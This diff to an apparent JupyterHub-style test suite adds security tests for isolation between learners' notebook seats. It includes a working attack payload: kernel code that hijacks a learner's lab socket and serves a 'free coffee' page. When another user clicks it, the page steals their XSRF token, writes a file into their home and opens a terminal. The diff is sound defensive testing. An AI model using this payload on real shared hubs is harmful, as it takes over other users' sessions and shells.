@@ -27,7 +27,7 @@ ARTIFACTS = ROOT / "tests" / "artifacts"
 WAIT = 1000 * patience(120)  # ms; three seats open at once
 LESSON = "notebooks/01_data_parallel.ipynb"
 TALK = "dist.all_reduce(x)"  # in the cell behind which the first ranks have talked
-NAMES = ("ada", "bob-2", "cleo")
+NAMES = ("ada", "bob-" + 27 * "2", "cleo")  # the longest name that the hub takes
 SETTINGS = 'c.Seat.args = ["--LabApp.expose_app_in_browser=True"]\n'  # for the tests' own commands
 
 # The text that code prints in the open notebook's kernel.
@@ -76,6 +76,43 @@ for child in many: child.kill()
 for child in many: child.wait()
 print(len(many))
 """
+# In a kernel: in place of the seat's JupyterLab a page, which acts in the seat of who clicks on it.
+ATTACK = """
+import os, socketserver
+page = b'''<button>free coffee</button><script>
+document.querySelector("button").onclick = async () => {{
+  const other = open("{other}lab"), say = text => {{ document.title = text; }};
+  try {{
+    let token = null;
+    while (!(token = other.document.cookie.match(/_xsrf=([^;]+)/)))
+      await new Promise(done => setTimeout(done, 100));
+    const headers = {{ "X-XSRFToken": token[1], "Content-Type": "application/json" }};
+    const ask = (method, route, body) =>
+      other.fetch("{other}api/" + route, {{ method, body, headers }});
+    const file = JSON.stringify({{ type: "file", format: "text", content: "by ada" }});
+    const put = await ask("PUT", "contents/stolen.txt", file);
+    say("put " + put.status + " terminal " + (await ask("POST", "terminals")).status);
+  }} catch (error) {{
+    const blind = {{ method: "POST", mode: "no-cors", credentials: "include" }};
+    await fetch("{other}api/terminals", blind);
+    say(error.name);
+  }}
+}};
+</script>'''
+class Say(socketserver.StreamRequestHandler):
+    def handle(self):
+        self.request.recv(65536)
+        head = b"HTTP/1.1 200 OK\\nContent-Type: text/html\\nConnection: close\\n\\n"
+        self.wfile.write(head.replace(b"\\n", b"\\r\\n") + page)
+os.unlink("/run/seat/lab.sock")
+server = socketserver.ThreadingUnixStreamServer("/run/seat/lab.sock", Say)
+import threading; threading.Thread(target=server.serve_forever, daemon=True).start()
+"""
+TERMINALS = """async () => {
+    const { terminals } = window.jupyterapp.serviceManager;
+    await terminals.refreshRunning();
+    return [...terminals.running()].length;
+}"""
 RUN_ABOVE = """index => {
     const { commands, shell } = window.jupyterapp;
     commands.execute('notebook:clear-all-cell-outputs');
@@ -95,7 +132,7 @@ class Learner:
     def log_in(self, path="", password="a-long-word"):
         """Begins to open a notebook in a seat, which starts."""
         seat = f"/hub/spawn?next={quote(f'/user/{self.name}/doc/tree/{path}')}"
-        self.page.goto(f"{self.hub.address}/hub/login?next={quote(seat)}")
+        self.page.goto(f"{self.hub.url}/hub/login?next={quote(seat)}")
         self.page.fill("input[name=username]", self.name)
         self.page.fill("input[name=password]", password)
         self.page.click("#login_submit")
@@ -133,9 +170,8 @@ def chromium():
 @pytest.fixture(scope="module")
 def hub():
     need_seats()
-    with RunningHub(
-        "--memory", "3", "--cores", "1.5", "--processes", "400", config=SETTINGS
-    ) as hub:
+    words = ["--memory", "3", "--cores", "1.5", "--processes", "400"]
+    with RunningHub(*words, "--domain", "hub.localhost", config=SETTINGS) as hub:
         yield hub
 
 
@@ -220,8 +256,46 @@ def test_limits_hold_and_reach_nobody_else(learners):
 def test_nobody_sits_on_anothers_seat(learners, chromium, hub):
     ada, bob, _ = learners
     page = bob.page.context.new_page()
-    answer = page.goto(f"{hub.address}/user/{ada.name}/lab")
+    answer = page.goto(f"{hub.seat(ada.name)}lab")
     assert answer.status in (403, 404)
     thief = Learner(hub, chromium, ada.name)
     thief.log_in(password="another-long-word")
     expect(thief.page.get_by_text("Invalid username or password")).to_be_visible(timeout=WAIT)
+
+
+def attack(hub, thief, other):
+    """Her server takes the place of the thief's JupyterLab, and the other one clicks on its page:
+    (what became of it, the other one's terminals by now)."""
+    assert thief.tell(ATTACK.format(other=hub.seat(other.name))) == ""
+    page = other.page.context.new_page()
+    page.goto(hub.seat(thief.name))
+    with page.expect_popup() as popup:
+        page.get_by_role("button", name="free coffee").click()
+    popup.value.wait_for_function("() => window.jupyterapp")  # the other one's own lab
+    until(page.title, 60)
+    return page.title(), other.page.evaluate(TERMINALS)
+
+
+@pytest.mark.timeout(240)
+def test_without_a_domain_a_learners_page_acts_in_another_ones_seat(chromium):
+    """The attack is real; the hub warns of it."""
+    need_seats()
+    with RunningHub(config=SETTINGS) as hub:
+        assert "All seats are one web origin" in hub.said()
+        ada, bob = (Learner(hub, chromium, name) for name in ("ada", "bob"))
+        for learner in (ada, bob):
+            learner.log_in(LESSON)
+        for learner in (ada, bob):
+            learner.opened()
+        assert attack(hub, ada, bob) == ("put 201 terminal 200", 1)
+        stolen = hub.folder / "homes" / "bob" / COPY.name / "stolen.txt"
+        assert stolen.read_text() == "by ada"
+
+
+@pytest.mark.timeout(120)
+def test_with_a_domain_the_same_page_acts_nowhere(learners, hub):
+    """The last test, for it takes ada's JupyterLab away."""
+    ada, bob, _ = learners
+    assert "web origin" not in hub.said()
+    assert attack(hub, ada, bob) == ("SecurityError", 0)
+    assert not (hub.folder / "homes" / bob.name / COPY.name / "stolen.txt").exists()
